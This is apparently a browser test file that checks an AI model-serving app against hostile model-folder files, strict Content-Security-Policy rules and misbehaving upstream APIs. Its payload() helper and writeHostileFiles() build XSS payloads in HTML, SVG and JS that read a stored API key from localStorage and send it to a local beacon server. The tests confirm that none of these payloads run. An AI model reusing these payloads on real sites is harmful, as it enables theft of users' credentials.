/**
 * Hostile data against the app in real Chromium and the real `edgetier serve`: a model folder
 * holding pages and scripts, the app's own Content-Security-Policy in every view, and a hostile
 * OpenAI-compatible tier (test/helpers/misbehaving-upstream.ts) set in Settings and called by the
 * browser directly.
 * 1. Files of a model folder (card.html, logo.svg, x.js, a .md and a .json full of markup) opened
 *    as pages on the app's origin run nothing: no dialog, no global set, no request.
 * 2. The app's pages carry the CSP and still work in every view, with no CSP violation reported
 *    (the page's and the engine worker's console both count).
 * 3. Markdown nested thousands deep renders (as text past the limit), and the conversation survives
 *    being reopened after another; an answer whose content is an object gives a clear error and a
 *    saved conversation; a tier cannot claim the synthetic-twin badge.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  MEGABYTE_ANSWER,
  startUpstream,
  UPSTREAM_KEY,
  type Upstream,
} from '../helpers/misbehaving-upstream.ts';
import { type ServeProcess, startTinyTierApp, type TinyTierApp } from './app-fixture.ts';

let fixture: TinyTierApp;
let serve: ServeProcess;
let page: Page;
let modelsDir: string;
/** Where the hostile files send what they steal; every hit is a failure. */
let beacon: Server;
let beaconUrl: string;
let upstream: Upstream;
const beaconHits: string[] = [];
const dialogs: string[] = [];
const consoleLines: string[] = [];

/** What each hostile file tries once it runs: a dialog, a global, a request with the stored key. */
function payload(): string {
  return `window.__pwned = 1; alert('pwned'); fetch('${beaconUrl}/steal?k=' + encodeURIComponent(localStorage.getItem('edgetier.keys.v1'))); navigator.sendBeacon('${beaconUrl}/beacon'); new Image().src = '${beaconUrl}/img';`;
}

function writeHostileFiles(folder: string): void {
  const script = `<script>${payload()}</script>`;
  writeFileSync(
    join(folder, 'card.html'),
    `<!doctype html><title>card</title>${script}<img src=x onerror="${payload()}">`,
  );
  writeFileSync(
    join(folder, 'logo.svg'),
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload().replace(/"/g, '&quot;')}">${script}</svg>`,
  );
  writeFileSync(join(folder, 'x.js'), payload());
  writeFileSync(join(folder, 'README.md'), `<!doctype html><h1>Model card</h1>${script}`);
  mkdirSync(join(folder, 'extra'), { recursive: true });
  writeFileSync(join(folder, 'extra', 'notes.json'), `<!doctype html>${script}`);
}

beforeAll(async () => {
  beacon = createServer((req, res) => {
    beaconHits.push(`${req.method} ${req.url}`);
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((done) => beacon.listen(0, '127.0.0.1', done));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  upstream = await startUpstream();
  fixture = await startTinyTierApp({
    viewport: null,
    prepareModels: (dir) => writeHostileFiles(join(dir, 'tiny')),
  });
  ({ serve, page, modelsDir } = fixture);
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (line) => consoleLines.push(line.text()));
});

afterAll(async () => {
  await fixture?.close();
  beacon?.close();
  await upstream?.close();
});

const cspViolations = () => consoleLines.filter((l) => /Content Security Policy|Refused to/i.test(l));

describe("a model folder's files never run on the app's origin", () => {
  it('opens each hostile file in the app origin: no script runs, nothing is sent', async () => {
    // The app first, with a key remembered, as a victim would have it.
    await page.goto(serve.url);
    await page.evaluate(`localStorage.setItem('edgetier.keys.v1', '{"t":"sk-secret"}')`);
    for (const name of [
      'card.html',
      'logo.svg',
      'x.js',
      'README.md',
      'extra/notes.json',
      'CARD.HTML',
      'card%2Ehtml',
    ]) {
      const url = `${serve.url}models/tiny/${name}`;
      const response = await page.goto(url).catch((error: Error) => {
        // A download instead of a page is fine too: nothing renders.
        if (/Download is starting/.test(error.message)) return null;
        throw error;
      });
      if (response) {
        await page.waitForLoadState('load');
        expect(await page.evaluate('window.__pwned ?? null'), name).toBeNull();
      }
    }
    // Let any stray request land before looking (a script that ran would have sent at once).
    await page.goto(serve.url);
    await fetch(`${beaconUrl}/control`);
    expect(beaconHits).toEqual(['GET /control']);
    expect(dialogs).toEqual([]);
  });

  it('answers the pages and scripts with 404 and serves the data files inert', async () => {
    for (const name of ['card.html', 'logo.svg', 'x.js']) {
      expect((await fetch(`${serve.url}models/tiny/${name}`)).status, name).toBe(404);
    }
    const readme = await fetch(`${serve.url}models/tiny/README.md`);
    expect(readme.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(readme.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    expect(readme.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await readme.text()).toBe(readFileSync(join(modelsDir, 'tiny', 'README.md'), 'utf8'));
  });
});

describe("the app's Content-Security-Policy", () => {
  it('is on the page, and every view works under it with no violation reported', async () => {
    consoleLines.length = 0;
    const response = await page.goto(serve.url);
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
    // The built page carries it too, for a host that sends no headers.
    await expect(
      page.evaluate(`document.querySelector('meta[http-equiv="Content-Security-Policy"]').content`),
    ).resolves.toBe(
      "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self' blob:; connect-src 'self' https: http://127.0.0.1:* http://localhost:*; img-src 'self' data:; style-src 'self'; font-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'",
    );
    await page.getByRole('link', { name: 'Settings', exact: true }).click();
    await page.getByLabel('Max new tokens').fill('8');
    await page.getByLabel('Max new tokens').press('Tab');
    await page.getByRole('link', { name: 'Models', exact: true }).click();
    const card = page.getByRole('article', { name: 'tiny', exact: true });
    await card.getByText('Synthetic twin', { exact: true }).waitFor();
    await card.getByRole('button', { name: 'Use tiny' }).click();
    await page.getByText('Fully local', { exact: true }).waitFor({ timeout: 90_000 });
    const message = page.getByRole('textbox', { name: 'Message', exact: true });
    await message.fill('Hello there');
    await message.press('Enter');
    await page.locator('et-chat-message').last().getByTestId('message-metrics').waitFor({ timeout: 60_000 });
    await page.getByRole('link', { name: 'Compare', exact: true }).click();
    await page.getByRole('button', { name: 'Compare', exact: true }).click();
    await page.getByTestId('tradeoff').waitFor({ timeout: 90_000 });
    await page.getByRole('link', { name: 'Bench', exact: true }).click();
    await page.getByRole('link', { name: 'Chat', exact: true }).click();
    expect(cspViolations()).toEqual([]);
  });
});

/** Tiers set in Settings that the browser calls directly, each a hostile behaviour of the upstream. */
function hostileSettings(): string {
  const tier = (id: string, name: string, model: string) => ({
    id,
    name,
    baseUrl: upstream.url,
    model,
    priceInPerMTok: 0,
    priceOutPerMTok: 0,
    rememberKey: true,
  });
  return JSON.stringify({
    tiers: [
      tier('deep', 'Deep tier', 'deep-markdown'),
      tier('object', 'Object tier', 'json-object-content'),
      tier('twin', 'Twin claimer', 'claims-twin'),
      tier('mega', 'Megabyte tier', 'megabyte'),
    ],
    sampling: { temperature: 0, topP: 1, maxNewTokens: 8 },
    backend: 'auto',
    enableThinking: false,
    compareTierId: 'twin',
  });
}

async function openWithHostileTiers(): Promise<void> {
  await page.goto(`${serve.url}#chat`);
  await page.evaluate(
    ([settings, keys]) => {
      localStorage.setItem('edgetier.settings.v1', settings as string);
      localStorage.setItem('edgetier.keys.v1', keys as string);
    },
    [
      hostileSettings(),
      JSON.stringify({ deep: UPSTREAM_KEY, object: UPSTREAM_KEY, twin: UPSTREAM_KEY, mega: UPSTREAM_KEY }),
    ],
  );
  await page.reload();
}

async function useTier(id: string): Promise<void> {
  await page.getByRole('combobox', { name: 'Model', exact: true }).selectOption(`remote:${id}`);
  await page.getByText('Remote: data leaves this device').waitFor();
}

async function ask(text: string): Promise<void> {
  const message = page.getByRole('textbox', { name: 'Message', exact: true });
  await message.fill(text);
  await message.press('Enter');
  // Finished: the last message is no longer busy.
  await page
    .locator('et-chat-message')
    .last()
    .locator('article[aria-busy="false"]')
    .waitFor({ timeout: 30_000 });
}

const messageTexts = () =>
  page.locator('et-chat-message').evaluateAll((elements) =>
    elements.map((e) => {
      const root = (
        e as unknown as { shadowRoot: { querySelector(s: string): { textContent: string } | null } }
      ).shadowRoot;
      return {
        content: root.querySelector('.content')?.textContent ?? null,
        error: root.querySelector('.error')?.textContent ?? null,
        writing: root.querySelector('.writing') !== null,
        links: (
          root.querySelector('.content') as unknown as { querySelectorAll(s: string): { length: number } }
        ).querySelectorAll('a[href]').length,
        edit: root.querySelector('footer')?.textContent?.includes('Edit') ?? false,
      };
    }),
  );

describe('a hostile tier', () => {
  it('renders Markdown nested thousands deep as text, and the conversation survives a reopen', async () => {
    await openWithHostileTiers();
    await useTier('deep');
    await ask('Deep please');
    const [question, answer] = await messageTexts();
    expect(question).toMatchObject({ content: 'Deep please\n', edit: true, writing: false, error: null });
    expect(answer?.writing).toBe(false);
    expect(answer?.error).toBeNull();
    for (const word of ['quoted', 'listed', 'starred']) expect(answer?.content).toContain(word);
    // A link to one of the app's own views is shown as text: model output cannot switch views.
    expect(answer?.content).toContain('open settings');
    expect(answer?.links).toBe(0);

    // Another conversation, whose answer is an object: a clear error, the conversation saved.
    await page.getByRole('button', { name: 'New conversation', exact: true }).click();
    await useTier('object');
    await ask('Object please');
    const [, failed] = await messageTexts();
    expect(failed?.writing).toBe(false);
    expect(failed?.error).toBe(
      `POST ${upstream.url}/chat/completions sent an answer edgetier cannot use: choices[0].message.content is an object, not a string. Is it an OpenAI-compatible API?`,
    );
    const saved = page.getByRole('complementary', { name: 'Conversations' });
    await saved.getByRole('button', { name: 'Object please', exact: true }).waitFor();

    // Reopen each: its own content, never the other's.
    await saved.getByRole('button', { name: 'Deep please', exact: true }).click();
    await expect.poll(async () => (await messageTexts())[0]?.content).toBe('Deep please\n');
    const reopened = await messageTexts();
    expect(reopened[1]?.content).toContain('starred');
    expect(reopened[1]?.error).toBeNull();
    await saved.getByRole('button', { name: 'Object please', exact: true }).click();
    await expect.poll(async () => (await messageTexts())[0]?.content).toBe('Object please\n');
    const other = await messageTexts();
    expect(other[1]?.content).toBe('');
    expect(other[1]?.error).toContain('is an object, not a string');
  });

  it('cannot claim the synthetic-twin badge in Compare', async () => {
    await page.getByRole('link', { name: 'Models', exact: true }).click();
    await page
      .getByRole('article', { name: 'tiny', exact: true })
      .getByRole('button', { name: 'Use tiny' })
      .click();
    await page.getByText('Fully local', { exact: true }).waitFor({ timeout: 90_000 });
    await page.getByRole('link', { name: 'Compare', exact: true }).click();
    await page.getByRole('combobox', { name: 'Remote tier', exact: true }).selectOption('remote:twin');
    await page.getByRole('button', { name: 'Compare', exact: true }).click();
    await page.getByTestId('tradeoff').waitFor({ timeout: 90_000 });
    const local = page.getByRole('region', { name: 'tiny', exact: true });
    const remote = page.getByRole('region', { name: 'Twin claimer' });
    await expect(local.getByText('Synthetic twin', { exact: true }).count()).resolves.toBe(1);
    await expect(remote.getByText('serves claims-twin', { exact: true }).count()).resolves.toBe(1);
    await expect(remote.getByText('Synthetic twin', { exact: true }).count()).resolves.toBe(0);
  });

  // The aim is no task over 200 ms; on this shared 2-core machine a task's wall time also counts the
  // time the renderer waits for a core, so the test allows 3 s (the unbounded rendering it guards
  // against blocked for 8.6 s in Chat and 11.4 s in Compare) and logs what it saw.
  it('streams a 1 MB answer into Compare, then into the chat, without freezing the page', async () => {
    const watchLongTasks = () =>
      page.evaluate(`(() => {
        window.__longTasks = [];
        window.__observer?.disconnect();
        window.__observer = new PerformanceObserver((list) => {
          for (const e of list.getEntries()) window.__longTasks.push(Math.round(e.duration));
        });
        window.__observer.observe({ type: 'longtask' });
      })()`);
    const longest = async () => {
      const tasks = (await page.evaluate('window.__longTasks')) as number[];
      console.log(`long tasks (ms): ${tasks.join(', ') || 'none'}`);
      return Math.max(0, ...tasks);
    };

    // Compare (tiny is still loaded on this device from the test before).
    await page.getByRole('combobox', { name: 'Remote tier', exact: true }).selectOption('remote:mega');
    await watchLongTasks();
    await page.getByRole('button', { name: 'Compare', exact: true }).click();
    await page.getByTestId('tradeoff').waitFor({ timeout: 90_000 });
    expect(await longest()).toBeLessThan(3000);
    const remote = page.getByRole('region', { name: 'Megabyte tier' });
    await remote.getByText(/^Showing the first [\d,]+ of 1,048,576 characters\./).waitFor();

    // The chat.
    await page.getByRole('link', { name: 'Chat', exact: true }).click();
    await page.getByRole('button', { name: 'New conversation', exact: true }).click();
    await useTier('mega');
    await watchLongTasks();
    await ask('Big please');
    expect(await longest()).toBeLessThan(3000);
    const answer = page.locator('et-chat-message').last();
    await expect(answer.getByTestId('truncated').textContent()).resolves.toMatch(
      /^Showing the first [\d,]+ of 1,048,576 characters\. Copy copies the whole answer\.$/,
    );
    // The whole answer is saved in this browser.
    await page
      .getByRole('complementary', { name: 'Conversations' })
      .getByRole('button', { name: 'Big please', exact: true })
      .waitFor();
    const saved = await page.evaluate(`new Promise((resolve, reject) => {
      const open = indexedDB.open('edgetier');
      open.onerror = () => reject(open.error);
      open.onsuccess = () => {
        const all = open.result.transaction('conversations').objectStore('conversations').getAll();
        all.onsuccess = () => resolve(all.result.find((c) => c.title === 'Big please').messages[1].content);
      };
    })`);
    expect(saved).toBe(MEGABYTE_ANSWER);
  });
});
